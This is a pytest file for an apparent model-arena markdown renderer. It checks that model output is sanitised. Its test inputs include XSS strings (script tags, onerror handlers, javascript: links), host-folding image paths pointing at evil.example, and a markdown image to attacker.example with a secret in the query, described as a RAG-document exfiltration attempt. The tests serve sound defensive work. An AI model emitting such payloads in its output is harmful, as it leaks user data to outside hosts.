from arena.markdown import render_markdown


def test_it_renders_markdown_with_code_blocks() -> None:
    html = render_markdown("# Title\n\n**bold** and `x`\n\n```python\nprint(1 < 2)\n```\n")
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert '<code class="language-python">print(1 &lt; 2)' in html


def test_raw_html_from_a_model_is_escaped() -> None:
    html = render_markdown('<script>alert(1)</script> <img src=x onerror="alert(2)">')
    assert "<script" not in html
    assert "<img" not in html
    assert "&lt;script&gt;" in html


def test_dangerous_links_lose_their_href() -> None:
    html = render_markdown("[a](javascript:alert(1)) [b](https://example.org) ![c](data:x)")
    # Left as plain text, never as a link or an image.
    assert 'href="javascript' not in html
    assert "<img" not in html
    assert 'href="https://example.org"' in html
    assert 'rel="nofollow noopener noreferrer"' in html


def test_a_remote_image_becomes_its_alt_text_and_loads_nothing() -> None:
    # The exfiltration a RAG document or a hostile endpoint would try.
    html = render_markdown("Done. ![**the** chart](https://attacker.example/p.png?q=secret)")
    assert "<img" not in html
    assert "attacker.example" not in html
    assert "<strong>the</strong> chart" in html


def test_remote_images_are_refused_in_every_markdown_form() -> None:
    sources = [
        "![a](http://x.example/a.png)",
        "![b](HTTPS://x.example/b.png)",
        "![c](//x.example/c.png)",
        "![d][ref]\n\n[ref]: https://x.example/d.png",
        "[![e](https://x.example/e.png)](https://x.example/)",
        "![f](ftp://x.example/f.png)",
    ]
    for source in sources:
        html = render_markdown(source)
        assert "<img" not in html, source
        assert "x.example/" not in html.replace('href="https://x.example/"', ""), source


def test_same_origin_and_inline_data_images_still_render() -> None:
    html = render_markdown("![logo](/static/arena/logo.png) ![dot](data:image/png;base64,iVBORw0K)")
    assert '<img src="/static/arena/logo.png" alt="logo">' in html
    assert '<img src="data:image/png;base64,iVBORw0K" alt="dot">' in html


def test_paths_a_browser_folds_into_another_host_are_not_local() -> None:
    from arena.markdown import image_source_allowed

    assert image_source_allowed("/static/x.png")
    assert image_source_allowed("x.png")
    assert image_source_allowed("data:image/webp;base64,AAAA")
    for src in ("//evil.example/x", "/\\evil.example/x", "\\\\evil.example", "/\t/evil.example"):
        assert not image_source_allowed(src), src
    assert not image_source_allowed(" https://evil.example/x")
    assert not image_source_allowed("javascript:alert(1)")


def test_links_stay_links_with_no_referrer_and_none_points_at_inline_data() -> None:
    html = render_markdown("[docs](https://docs.example/a) [img](data:image/png;base64,AAAA)")
    assert '<a href="https://docs.example/a" rel="nofollow noopener noreferrer">docs</a>' in html
    assert 'href="data:' not in html


def test_table_alignment_survives_the_image_rules() -> None:
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
    assert '<td style="text-align:center">1</td>' in html
